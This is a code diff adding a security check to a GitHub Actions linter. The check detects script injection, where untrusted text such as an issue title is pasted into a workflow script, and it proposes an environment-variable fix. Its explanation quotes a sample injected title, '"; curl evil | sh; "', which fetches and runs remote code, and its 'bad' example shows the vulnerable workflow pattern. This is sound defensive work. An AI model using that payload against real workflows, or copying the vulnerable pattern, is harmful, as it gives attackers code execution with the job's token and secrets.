@@ -1,0 +1,131 @@
+import { type Step, steps } from '../../graph/github-actions.ts';
+import { isOpenToOutsiders, type UntrustedText, untrustedIn } from '../../graph/github-actions-trust.ts';
+import type { Edit, Fix } from '../../model/edit.ts';
+import { Node } from '../../model/node.ts';
+import { check, type Fault } from '../check.ts';
+
+/** Inputs of actions that are run as code. Source: GitHub CodeQL's models of code injection sinks. */
+const codeInputs: Readonly<Record<string, readonly string[]>> = {
+  'actions/github-script': ['script'],
+  'amadevus/pwsh-script': ['script'],
+  'jannekem/run-python-script-action': ['script'],
+  'cardinalby/js-eval-action': ['expression'],
+  'addnab/docker-run-action': ['options', 'run'],
+  'appleboy/ssh-action': ['script'],
+  'azure/cli': ['inlinescript'],
+  'azure/powershell': ['inlinescript'],
+  'nick-fields/retry': ['command'],
+  'mikefarah/yq': ['cmd'],
+};
+
+export default check({
+  id: 'github-actions/script-injection',
+  title: 'Text of others becomes part of a script',
+  dimension: 'security',
+  severity: 'high',
+  why: 'GitHub pastes the value of ${{ … }} into the script before the shell reads it: an issue titled `"; curl evil | sh; "` runs as code, with the token and the secrets of the job. Hand the value over in an environment variable, which the shell takes as text: env: { TITLE: ${{ … }} }, then "$TITLE".',
+  sameAs: [
+    'actionlint:expression/untrusted-input',
+    'checkov:CKV_GHA_2',
+    'kics:cicd/github/run_block_injection',
+    'kics:cicd/github/script_block_injection',
+    'scorecard:dangerous-workflow/script-injection',
+    'zizmor:template-injection',
+  ],
+  controls: ['soc2:CC8.1', 'pci-dss:6.2.4'],
+  sources: ['https://docs.github.com/en/actions/concepts/security/script-injections'],
+  visits: steps,
+  judge(step) {
+    const faults: Fault[] = [];
+    for (const { node, what } of scriptsOf(step)) {
+      const text = node.file.text.slice(node.start, node.end);
+      for (const found of untrustedIn(text, step)) {
+        const at = new Node(
+          node.file,
+          node.start + found.start,
+          node.start + found.end,
+          text.slice(found.start, found.end),
+        );
+        const fix = node === step.script ? fixOf(step, at, text, found) : undefined;
+        faults.push({
+          message: `${sentence(found, what)}: hand it over in an environment variable and use that in quotes.`,
+          at,
+          key: `${step.key} ${found.path}`,
+          severity: found.author !== 'outsider' ? 'low' : isExposed(step) ? 'high' : 'medium',
+          ...(fix && { fix }),
+        });
+      }
+    }
+    return faults;
+  },
+  examples: {
+    bad: `on:
+  issues:
+    types: [opened]
+permissions: {}
+jobs:
+  greet:
+    runs-on: ubuntu-24.04
+    timeout-minutes: 5
+    steps:
+      - run: echo "New issue \${{ github.event.issue.title }}"
+`,
+    good: `on:
+  issues:
+    types: [opened]
+permissions: {}
+jobs:
+  greet:
+    runs-on: ubuntu-24.04
+    timeout-minutes: 5
+    steps:
+      - run: echo "New issue $TITLE, number \${{ github.event.issue.number }}"
+        env:
+          TITLE: \${{ github.event.issue.title }}
+`,
+  },
+});
+
+function scriptsOf({ script, action, node }: Step): { node: Node; what: string }[] {
+  if (script) return [{ node: script, what: 'the script' }];
+  const inputs = action && Object.hasOwn(codeInputs, action.repository) ? codeInputs[action.repository]! : [];
+  return inputs.flatMap((name) => {
+    const input = node.peek('with', name);
+    return input ? [{ node: input, what: `the ${name} of ${action!.repository}` }] : [];
+  });
+}
+
+function sentence({ path, author }: UntrustedText, what: string): string {
+  if (author === 'outsider') return `Anybody can choose ${path}, which becomes part of ${what}`;
+  if (author === 'insider')
+    return `Whoever may push or start this workflow chooses ${path}, which becomes part of ${what}`;
+  return `Whoever calls this chooses ${path}, which becomes part of ${what}`;
+}
+
+/** In a composite action nobody knows what will call it. */
+function isExposed({ job }: Step): boolean {
+  return !job || isOpenToOutsiders(job.workflow) || job.workflow.triggers.has('workflow_call');
+}
+
+/** An environment variable in its place, where the script is one that a POSIX shell reads outside of single quotes. */
+function fixOf(step: Step, at: Node, text: string, found: UntrustedText): Fix | undefined {
+  const shell = step.node.peek('shell')?.content;
+  if (shell !== undefined && shell !== 'bash' && shell !== 'sh') return undefined;
+  const line = text.slice(text.lastIndexOf('\n', found.start) + 1, found.start);
+  if ((line.split("'").length - 1) % 2 === 1) return undefined;
+  const isQuoted = (line.split('"').length - 1) % 2 === 1;
+  const name = found.path
+    .replace(/^github\.event\./, '')
+    .replace(/[^a-z0-9]+/gi, '_')
+    .toUpperCase();
+  const use = isQuoted ? `\${${name}}` : `"\${${name}}"`;
+  const edits: Edit[] = [
+    { op: 'text', file: at.file, start: at.start, end: at.end, text: use },
+    { op: 'set', in: step.node, path: ['env', name], value: String(at.content) },
+  ];
+  return {
+    safety: 'unsafe',
+    summary: `hand ${found.path} over as $${name} (look at the quotes around it)`,
+    edits,
+  };
+}
